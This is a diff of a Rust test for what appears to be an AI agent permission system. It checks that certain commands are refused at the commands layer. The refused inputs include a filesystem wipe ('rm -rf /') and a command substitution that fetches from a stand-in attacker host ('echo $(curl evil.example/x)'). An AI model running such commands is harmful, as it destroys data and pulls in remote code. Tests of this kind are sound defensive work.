@@ -45,9 +45,11 @@ fn the_configuration_of_the_agent_decides_and_all_of_it_is_on_record() {
         "{ran}"
     );
     assert_eq!(result["decision"]["layer"], "commands");
-    for (agent, command, layer) in
-        [("bot", "rm -rf /", "commands"), ("bot", "echo $(id)", "commands"), ("mute", "echo", "tools")]
-    {
+    for (agent, command, layer) in [
+        ("bot", "rm -rf /", "commands"),
+        ("bot", "echo $(curl evil.example/x)", "commands"),
+        ("mute", "echo", "tools"),
+    ] {
         let refused = serving.call("exec", &exec(agent, command, &workspace));
         assert_eq!(refused["error"]["code"], -32001, "{command}: {refused}");
         assert_eq!(refused["error"]["data"]["decision"]["layer"], layer, "{command}: {refused}");
